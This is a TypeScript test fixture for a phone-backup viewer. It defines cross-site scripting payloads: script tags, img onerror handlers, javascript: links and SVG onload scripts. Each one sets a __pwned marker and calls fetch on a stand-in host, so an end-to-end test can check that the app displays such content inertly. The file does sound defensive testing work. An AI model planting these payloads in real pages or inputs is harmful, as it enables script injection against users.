/**
 * Content a backup can hold that a browser would run as script if the app ever rendered it as a
 * page: HTML, SVG with <script>, `javascript:` links, markup in message text. The demo phone carries
 * it so tests/e2e/security.test.ts can prove the Library shows, previews and exports it inertly.
 * Every payload leaves two traces if it ever runs: `__pwned` on its window (and its opener's), and a
 * request to HOSTILE_HOST, which is not the app's origin.
 */
export const HOSTILE_HOST = 'lifeboat-hostile.invalid';

/** A script body that marks the window it runs in and phones home; `label` says which payload ran. */
function payload(label: string): string {
  return `(window.opener||window).__pwned='${label}';window.__pwned='${label}';fetch('http://${HOSTILE_HOST}/${label}')`;
}

/** A message's text: markup that must be shown as the characters it is. */
export const HOSTILE_MESSAGE_TEXT = `<img src=x onerror="${payload('message')}"><script>${payload('message-script')}</script>`;

/** A note with links a renderer might make clickable. */
export const HOSTILE_NOTE = {
  title: 'Links <b>bold</b>',
  body: `Links <b>bold</b>\n<a href="javascript:${payload('note-anchor')}">tap</a>\njavascript:${payload('note-link')}\n<img src=x onerror="${payload('note-img')}">`,
};

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);

/** An HTML page as an app would keep one (a cached web view, a help page). */
export const HOSTILE_HTML = encode(
  `<!doctype html><html><body><h1>Cached page</h1><script>${payload('html')}</script>` +
    `<img src="http://${HOSTILE_HOST}/html-img" onerror="${payload('html-img')}"><a href="javascript:${payload('html-link')}">link</a></body></html>\n`,
);

/** An SVG drawing with script inside: inert in <img>, live when opened as a document. */
export const HOSTILE_SVG = encode(
  `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="${payload('svg-onload')}">` +
    `<script>${payload('svg')}</script><rect width="64" height="64" fill="#0b84ff"/>` +
    `<image href="http://${HOSTILE_HOST}/svg-image" width="1" height="1"/></svg>\n`,
);

/** Files in the first app's container (relative to its AppDomain). */
export const HOSTILE_APP_FILES: readonly { relativePath: string; bytes: Uint8Array }[] = [
  { relativePath: 'Documents/web/cached-page.html', bytes: HOSTILE_HTML },
  { relativePath: 'Documents/web/drawing.svg', bytes: HOSTILE_SVG },
];

/** Message attachments sent with the hostile message: an SVG (claimed an image) and an HTML page. */
export const HOSTILE_ATTACHMENTS: readonly { name: string; mimeType: string; uti: string; bytes: Uint8Array }[] = [
  { name: 'drawing.svg', mimeType: 'image/svg+xml', uti: 'public.svg-image', bytes: HOSTILE_SVG },
  { name: 'page.html', mimeType: 'text/html', uti: 'public.html', bytes: HOSTILE_HTML },
];
